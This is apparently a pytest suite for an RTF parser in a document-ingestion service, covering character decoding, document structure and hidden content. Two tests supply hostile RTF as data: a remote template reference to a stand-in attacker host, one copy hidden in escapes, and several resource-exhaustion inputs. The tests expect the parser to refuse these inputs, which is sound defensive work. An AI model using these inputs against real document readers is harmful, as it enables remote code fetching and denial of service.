"""Rich text: characters of every code page, and only what the page shows."""

from __future__ import annotations

import time

import pytest

from chalicelib.domain.documents import BlockKind, ParsedDocument
from chalicelib.errors import DocumentRejected
from fargate.ingestion.parsers import registry
from fargate.ingestion.parsers.rich_text import MEDIA_TYPES
from fargate.ingestion.parsers.source import Source

HEADING, TEXT, LIST, TABLE, CODE = BlockKind


def parse(body: str, *, max_characters: int = 1_000_000) -> ParsedDocument:
    data = b"{\\rtf1\\ansi\\ansicpg1252" + body.encode("latin-1") + b"}"
    return registry.parse(Source(data, "a letter.rtf", MEDIA_TYPES[0], max_characters=max_characters))


def blocks(parsed: ParsedDocument) -> list[tuple[BlockKind, str]]:
    return [(block.kind, parsed.text[block.start : block.end]) for block in parsed.blocks]


def rejected(body: str) -> str:
    with pytest.raises(DocumentRejected) as caught:
        parse(body, max_characters=2_000)
    assert caught.value.detail.endswith(".")
    return caught.value.reason


@pytest.mark.parametrize(
    ("body", "text"),
    [
        (r"Gr\'fc\'dfe", "Grüße"),
        ("Gr\xfc\xdfe", "Grüße"),
        (r"{\fonttbl{\f1\fnil\fcharset204 Arial;}}\f1\'cf\'f0\'e8\f0\'e9", "Приé"),
        (r"{\fonttbl{\f1\fcharset128{\*\panose 02}MS;}}{\f1\'83\'5c\'83}{\f1 \\}", "ソ\ufffd\\"),
        (r"{\fonttbl{\f1\fcharset128 MS;}}{\f1\'8d\'91\'89p}", "国英"),
        (r"{\fonttbl{\f1\fcharset78 Mac;}}{\f1 a}", "a"),
        (r"\uc2 a\u26481\'93\'8c\u20140ab!", "a東京!"),
        (r"\u-10179?\u-8704?", "😀"),
        (r"{\uc0\u8364}5\emdash \ldblquote a\rdblquote", "€5—“a”"),
        (r"a\~b\_c\line d\tab e\{\\", "a b-c\nd\te{\\"),
        ("one\r\n two", "one two"),
        (r"{\upr{old}{\*\ud{n\u233?w}}}", "néw"),
    ],
)
def test_characters_are_read_by_the_code_page_of_their_font(body: str, text: str) -> None:
    """Escaped, raw, in Unicode with what old programs show instead, and of several bytes."""
    assert parse(body).text == text


def test_styles_give_headings_and_lists() -> None:
    """By their names or their outline level; the marks of items are not their text."""
    styles = r"{\stylesheet{\ql Normal;}{\s1 heading 1;}{\s2\outlinelevel1 Own;}{\s3 Title;}{\*\cs4 No;}}"
    items = r"{\listtext\pard\plain 1.\tab}one\par\pard\ls1\ilvl1 two\par\pard"
    parsed = parse(
        styles + r"{\info{\title Handbook}{\author A. B.}}\pard\s3 The title\par\pard\s1 Leave\par\pard Text.\par"
        r"\pard\s2 Kinds\par\pard" + items + r"\pard\s1\outlinelevel9 Plain again\par"
    )
    assert blocks(parsed) == [
        (HEADING, "The title"),
        (HEADING, "Leave"),
        (TEXT, "Text."),
        (HEADING, "Kinds"),
        (LIST, "- one\n  - two"),
        (TEXT, "Plain again"),
    ]
    assert parsed.blocks[4].heading_path == ("The title", "Leave", "Kinds")
    assert parsed.title == "Handbook"


def test_cells_are_rows_of_a_table() -> None:
    """With their header; one that goes on from above is said again; paragraphs in a cell are one line."""
    header = r"\trowd\trhdr\cellx1\cellx2\intbl Size\cell Name\cell\row"
    first = r"\trowd\clvmgf\cellx1\cellx2\intbl Large\cell a\par b\cell\row"
    second = r"\trowd\clvmrg\cellx1\cellx2\intbl\cell c\cell\row\pard The end.\par"
    parsed = parse(header + first + second)
    assert blocks(parsed) == [(TABLE, "Size | Name\nLarge | a b\nLarge | c"), (TEXT, "The end.")]
    assert parsed.blocks[0].header_end == len("Size | Name")


def test_notes_boxes_headers_and_footers_are_read_once() -> None:
    """Each in its place: headers first, boxes where they stand, notes and footers behind."""
    box = r"{\shp{\*\shpinst{\sp{\sn a}{\sv b}}{\shptxt In a box.\par}}{\shprslt In a box.}}"
    parsed = parse(
        r"{\headerl Staff}{\headerr Staff}{\footer Page {\field{\*\fldinst PAGE}{\fldrslt 1}}}"
        r"Text{\super\chftn{\footnote\pard A note.}} goes on.\par" + box.replace(r"{\sp{\sn a}{\sv b}}", "")
    )
    assert [text for _, text in blocks(parsed)] == ["Staff", "Text goes on.", "In a box.", "A note.", "Page 1"]


def test_what_is_not_shown_is_not_read() -> None:
    """Field codes, hidden and deleted text, comments, pictures as digits or raw bytes."""
    body = (
        r'{\field{\*\fldinst HYPERLINK "http://a.example"}{\fldrslt link}}{\v hidden}\v x\v0{\deleted gone}'
        r"{\*\annotation remark}{\pict\pngblip 89504e47}{\pict\bin5 }{\\}}{\*\unknown secret}!"
    )
    assert parse(body).text == "link!"


def test_a_template_on_another_computer_is_suspicious() -> None:
    """Word would fetch it at opening, be its address hidden in escapes or not."""
    assert rejected(r"{\*\template http://evil.example/t.dotm}Text.") == "suspicious_archive"
    assert rejected(r"{\*\template \u104?ttp:\'2f/evil.example/t.dotm}Text.") == "suspicious_archive"
    assert parse(r"{\*\template C:\\Normal.dotm}Text.").text == "Text."


def test_hostile_files_are_refused_or_read_in_bounds() -> None:
    """Nested a million deep, raw data longer than the file, merged cells that multiply a text."""
    assert rejected("{" * 1_000_000) == "unreadable"
    assert parse(r"a\bin999999999 b").text == "a"
    merged = r"\trowd\clvmrg\cellx1\cellx2\intbl\cell x\cell\row"
    assert rejected(r"\trowd\cellx1\cellx2\intbl " + "y" * 500 + r"\cell x\cell\row" + merged * 9) == "too_large"
    assert rejected(r"\par" * 1_000) == "empty"
    started = time.process_time()
    with pytest.raises(DocumentRejected):
        parse(r"{\field{\*\fldinst " * 900 + "a" * 1_000_000)
    assert parse(r"\f1" * 100_000 + "x").text == "x"
    assert time.process_time() - started < 5
